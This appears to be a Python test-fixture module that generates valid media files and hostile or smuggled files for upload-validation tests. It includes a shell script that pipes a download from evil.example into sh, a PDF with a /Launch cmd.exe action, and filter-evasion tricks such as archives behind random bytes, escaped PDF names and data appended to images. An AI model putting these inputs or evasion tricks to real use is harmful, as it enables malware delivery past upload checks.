"""Files for the media tests, made by the test code itself: valid photos,
audio, video and documents, hostile files that pretend to be media, and files
smuggled past a check by type alone (archives and programs behind a few
bytes, text in legacy encodings, active PDFs, data behind an image's end)."""

from __future__ import annotations

import io
import random
import struct
import tarfile
import zipfile
import zlib

from PIL import Image


def _image(fmt: str) -> bytes:
    buffer = io.BytesIO()
    Image.effect_noise((64, 48), 60).convert("RGB").save(buffer, fmt)
    return buffer.getvalue()


def _box(kind: bytes, payload: bytes) -> bytes:
    """An ISO base media file box (MP4, MOV, M4A, HEIF)."""
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def _ftyp(brand: bytes, *compatible: bytes) -> bytes:
    return _box(b"ftyp", brand + struct.pack(">I", 0x200) + b"".join(compatible))


def jpeg() -> bytes:
    return _image("JPEG")


def png() -> bytes:
    return _image("PNG")


def webp() -> bytes:
    return _image("WEBP")


def heic() -> bytes:
    return _ftyp(b"heic", b"mif1", b"heic") + _box(b"meta", bytes(32))


def mp4() -> bytes:
    return _ftyp(b"isom", b"isom", b"iso2", b"avc1", b"mp41") + _box(b"free", b"") + _box(b"mdat", bytes(256))


def quicktime() -> bytes:
    return _ftyp(b"qt  ", b"qt  ") + _box(b"mdat", bytes(256))


def m4a() -> bytes:
    return _ftyp(b"M4A ", b"M4A ", b"mp42", b"isom") + _box(b"mdat", bytes(256))


def ogg() -> bytes:
    """One Ogg page with a Vorbis identification header."""
    vorbis = b"\x01vorbis" + struct.pack("<IBIiiiBB", 0, 2, 44100, 0, 128000, 0, 0xB8, 1)
    header = b"OggS" + bytes([0, 0x02]) + bytes(8) + struct.pack("<III", 1, 0, 0)
    return header + bytes([1, len(vorbis)]) + vorbis


def mp3() -> bytes:
    """An ID3v2 tag and MPEG-1 layer III frames (128 kbit/s, 44.1 kHz)."""
    frame = b"\xff\xfb\x90\x64" + bytes(413)
    return b"ID3\x03\x00\x00\x00\x00\x00\x00" + frame * 8


def pdf() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def elf() -> bytes:
    header = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 0x3E, 1) + bytes(40)
    return header + b"\x90" * 200


def pe() -> bytes:
    dos = b"MZ" + bytes(58) + struct.pack("<I", 64)
    return dos + b"PE\x00\x00" + struct.pack("<HH", 0x8664, 1) + bytes(240)


def html() -> bytes:
    return (
        b"<!DOCTYPE html><html><body><script>document.location='https://evil.example'</script></body></html>"
    )


def svg_with_script() -> bytes:
    return b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.exe", elf())
    return buffer.getvalue()


def tar_archive() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        member = tarfile.TarInfo("payload.sh")
        data = shell_script()
        member.size = len(data)
        archive.addfile(member, io.BytesIO(data))
    return buffer.getvalue()


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl https://evil.example/x | sh\n"


def text() -> bytes:
    return b"Lagebericht: keine besonderen Vorkommnisse.\n"


def gif() -> bytes:
    return _image("GIF")


# -- smuggled: what libmagic cannot name at offset 0, or an allowed type with more in it --------


def _random(size: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(size)


def zip_behind_zeros() -> bytes:
    """Still extractable: unzip finds a zip archive from its end."""
    return bytes(64) + zip_archive()


def zip_behind_random() -> bytes:
    return _random(64, 1) + zip_archive()


def random_zip_behind_random(seed: int = 2) -> bytes:
    """A zip of incompressible bytes (stored) behind random bytes: the whole
    looks random, only the zip's directory at the end gives it away."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("payload.bin", _random(48 * 1024, seed + 1))
    return _random(64, seed) + buffer.getvalue()


def elf_behind_random() -> bytes:
    return _random(16, 3) + elf()


def pe_behind_random() -> bytes:
    return _random(24, 4) + padded(pe(), 1024)


def rar_behind_random() -> bytes:
    """A RAR 5 signature and archive header behind random bytes (unrar looks for it there)."""
    return (
        _random(100, 5)
        + b"Rar!\x1a\x07\x01\x00"
        + bytes.fromhex("33 92 b5 e5 0a 01 05 06 00 05 01 01 80 80 00")
    )


def seven_zip_behind_random() -> bytes:
    return _random(100, 6) + b"7z\xbc\xaf\x27\x1c\x00\x04" + _random(200, 7)


def png_signature_html() -> bytes:
    """The PNG signature, then a web page (no PNG chunk): libmagic cannot name it."""
    return b"\x89PNG\r\n\x1a\n" + html()


RUSSIAN = (
    "Оперативная сводка: на улице Ленина задержан подозреваемый, изъяты документы и телефон. "
    "Происшествий больше нет, патрулирование продолжается в обычном режиме.\n"
)
GREEK = (
    "Αναφορά κατάστασης: όλα ήσυχα στην περιοχή, κανένα συμβάν. "
    "Η περιπολία συνεχίζεται κανονικά μέχρι το πρωί.\n"  # noqa: RUF001
)
ARABIC = "تقرير الحالة: الوضع هادئ في المنطقة، لا توجد حوادث. الدورية مستمرة حتى الصباح.\n"


def russian_cp1251() -> bytes:
    return RUSSIAN.encode("cp1251")


def russian_koi8_r() -> bytes:
    return RUSSIAN.encode("koi8-r")


def greek_iso8859_7() -> bytes:
    return GREEK.encode("iso-8859-7")


def arabic_cp1256() -> bytes:
    return ARABIC.encode("cp1256")


def _pdf(*objects: bytes, prefix: bytes = b"") -> bytes:
    """A PDF whose catalog is object 1; ``objects`` are the bodies of 2, 3, ... (no xref:
    readers rebuild it, and the checks do not need it)."""
    body = prefix + b"%PDF-1.7\n"
    for number, content in enumerate(objects, start=1):
        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    return body + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


_PAGES = b"<< /Type /Pages /Kids [] /Count 0 >>"


def pdf_javascript_open_action() -> bytes:
    return _pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert('x')) >> >>", _PAGES
    )


def pdf_launch_action() -> bytes:
    """A page that launches a program when it is opened (/AA, /Launch)."""
    page = b"<< /Type /Page /Parent 2 0 R /AA << /O << /S /Launch /F (cmd.exe) >> >> >>"
    return _pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page)


def pdf_escaped_names() -> bytes:
    """/JavaScript and /OpenAction written with #xx escapes, as readers accept them."""
    return _pdf(b"<< /Type /Catalog /Pages 2 0 R /Open#41ction << /S /J#61vaScript /J#53 (x) >> >>", _PAGES)


def pdf_embedded_file() -> bytes:
    names = b"<< /EmbeddedFiles << /Names [(a.exe) 3 0 R] >> >>"
    spec = b"<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>"
    data = elf()
    stream = b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"
    return _pdf(b"<< /Type /Catalog /Pages 2 0 R /Names " + names + b" >>", _PAGES, spec, stream)


def pdf_javascript_in_object_stream() -> bytes:
    """PDF 1.5: the catalog with its JavaScript compressed in an object stream."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"
    objects = b"1 0 " + catalog
    data = zlib.compress(objects)
    stream = (
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(data)
        + data
        + b"\nendstream"
    )
    return _pdf(stream, _PAGES)


def pdf_behind_random() -> bytes:
    """Readers find a PDF header in the first KiB: libmagic, looking at byte 0, does not."""
    return _pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (x) >> >>",
        _PAGES,
        prefix=_random(200, 8),
    )


def pdf_open_at_page() -> bytes:
    """Harmless: an /OpenAction that is a destination (open at page 1, fit the window)."""
    page = b"<< /Type /Page /Parent 2 0 R >>"
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>"
    return _pdf(catalog, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page)


def jpeg_with_zip() -> bytes:
    return jpeg() + zip_archive()


def png_with_zip() -> bytes:
    return png() + zip_archive()


def png_with_html() -> bytes:
    return png() + html()


def jpeg_with_script() -> bytes:
    return jpeg() + shell_script()


def webp_with_script() -> bytes:
    return webp() + shell_script()


def mp4_with_zip() -> bytes:
    return mp4() + zip_archive()


def jpeg_zero_padded() -> bytes:
    """Harmless: zero bytes after the end marker, as some cameras write."""
    return jpeg() + bytes(4096)


def jpeg_multi_picture() -> bytes:
    """Harmless: a second JPEG after the first (Ultra HDR gain map, MPO stereo pair)."""
    return jpeg() + jpeg()


def padded(data: bytes, size: int) -> bytes:
    """``data`` followed by zero bytes up to ``size`` (the formats ignore trailing data)."""
    assert len(data) <= size
    return data + bytes(size - len(data))


ALLOWED = {
    "image/jpeg": jpeg,
    "image/png": png,
    "image/webp": webp,
    "image/heic": heic,
    "video/mp4": mp4,
    "video/quicktime": quicktime,
    "audio/mp4": m4a,
    "audio/ogg": ogg,
    "audio/mpeg": mp3,
    "application/pdf": pdf,
}

#: name -> (bytes, declared Content-Type, file name): each pretends to be something else
HOSTILE = {
    "elf": (elf, "image/jpeg", "holiday.jpg"),
    "pe": (pe, "image/jpeg", "scan.jpg"),
    "html": (html, "image/png", "map.png"),
    "svg": (svg_with_script, "image/svg+xml", "logo.svg"),
    "zip": (zip_archive, "application/pdf", "report.pdf"),
    "tar": (tar_archive, "video/mp4", "clip.mp4"),
    "shell": (shell_script, "text/plain", "notes.txt"),
    "text": (text, "text/plain", "bericht.txt"),
}

#: name -> (bytes, declared Content-Type, file name, rule): refused although
#: libmagic cannot name them (so they would pass as ciphertext), or although
#: their type is allowed (so they would pass as that type)
SMUGGLED = {
    "zip-behind-zeros": (zip_behind_zeros, "application/octet-stream", "data.bin", "media.type"),
    "zip-behind-random": (zip_behind_random, "application/octet-stream", "data.bin", "media.type"),
    "random-zip-behind-random": (random_zip_behind_random, "application/octet-stream", "x", "media.type"),
    "rar-behind-random": (rar_behind_random, "application/octet-stream", "x", "media.type"),
    "7z-behind-random": (seven_zip_behind_random, "application/octet-stream", "x", "media.type"),
    "elf-behind-random": (elf_behind_random, "application/octet-stream", "x", "media.type"),
    "pe-behind-random": (pe_behind_random, "application/octet-stream", "x", "media.type"),
    "png-signature-html": (png_signature_html, "image/png", "map.png", "media.type"),
    "russian-cp1251": (russian_cp1251, "text/plain", "svodka.txt", "media.type"),
    "russian-koi8-r": (russian_koi8_r, "text/plain", "svodka.txt", "media.type"),
    "greek-iso-8859-7": (greek_iso8859_7, "text/plain", "anafora.txt", "media.type"),
    "arabic-cp1256": (arabic_cp1256, "text/plain", "taqrir.txt", "media.type"),
    "pdf-javascript-open-action": (
        pdf_javascript_open_action,
        "application/pdf",
        "a.pdf",
        "media.active_content",
    ),
    "pdf-launch-action": (pdf_launch_action, "application/pdf", "b.pdf", "media.active_content"),
    "pdf-escaped-names": (pdf_escaped_names, "application/pdf", "c.pdf", "media.active_content"),
    "pdf-embedded-file": (pdf_embedded_file, "application/pdf", "d.pdf", "media.active_content"),
    "pdf-object-stream": (
        pdf_javascript_in_object_stream,
        "application/pdf",
        "e.pdf",
        "media.active_content",
    ),
    "pdf-behind-random": (pdf_behind_random, "application/octet-stream", "f.bin", "media.active_content"),
    "jpeg-with-zip": (jpeg_with_zip, "image/jpeg", "photo.jpg", "media.trailing_data"),
    "jpeg-with-script": (jpeg_with_script, "image/jpeg", "photo.jpg", "media.trailing_data"),
    "png-with-zip": (png_with_zip, "image/png", "scan.png", "media.trailing_data"),
    "png-with-html": (png_with_html, "image/png", "scan.png", "media.trailing_data"),
    "webp-with-script": (webp_with_script, "image/webp", "a.webp", "media.trailing_data"),
    "mp4-with-zip": (mp4_with_zip, "video/mp4", "clip.mp4", "media.trailing_data"),
}

#: one smuggled file per way of finding it, for the slow end-to-end tests (the auditor bot)
SMUGGLED_SAMPLE = (
    "zip-behind-random",  # a zip's directory at the end
    "random-zip-behind-random",  # the same, in bytes that pass the randomness test
    "elf-behind-random",  # no known type, not random
    "russian-cp1251",  # text in a legacy encoding
    "pdf-object-stream",  # active content in a compressed object stream
    "pdf-behind-random",  # a PDF header behind other bytes
    "jpeg-with-zip",  # an archive behind an allowed image
    "png-with-html",  # data after the PNG's end
)

#: name -> (bytes, the type they are): allowed files that look like the smuggled ones
ALLOWED_VARIANTS = {
    "pdf-open-at-page": (pdf_open_at_page, "application/pdf"),
    "jpeg-zero-padded": (jpeg_zero_padded, "image/jpeg"),
    "jpeg-multi-picture": (jpeg_multi_picture, "image/jpeg"),
}
